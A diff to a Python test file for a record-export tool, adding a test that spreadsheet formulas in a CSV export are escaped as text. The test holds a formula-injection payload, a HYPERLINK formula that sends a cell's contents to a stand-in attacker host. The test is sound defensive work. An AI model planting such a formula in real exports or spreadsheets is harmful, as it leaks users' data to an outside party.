@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import hashlib
 import json
 
@@ -48,6 +49,21 @@ async def test_the_export_holds_the_complete_record(sessions, database_url, cloc
     manifest = json.loads((out / "manifest.json").read_text())
     for name, digest in manifest["sha256"].items():
         assert hashlib.sha256((out / name).read_bytes()).hexdigest() == digest
+
+
+async def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(sessions, database_url, clock, tmp_path):
+    uows = uow_factory(sessions, clock)
+    formula = '=HYPERLINK("https://attacker.example/?q="&A1,"Open")'
+    async with uows() as uow:
+        draft = dataclasses.replace(DRAFT, purpose=formula + " to find a suspect's accounts")
+        await submit_request(uow, POLICY, draft, "U0OFFICER", clock())
+        await uow.commit()
+    out = tmp_path / "export"
+    export_record(database_url, out)
+    with (out / "tool_requests.csv").open(encoding="utf-8") as handle:
+        [row] = list(csv.DictReader(handle))
+    assert row["purpose"] == "'" + draft.purpose  # shown as text; the value follows the '
+    assert "formula" in json.loads((out / "manifest.json").read_text())["note"]
 
 
 def test_the_cli_writes_the_export(tmp_path, monkeypatch, capsys):
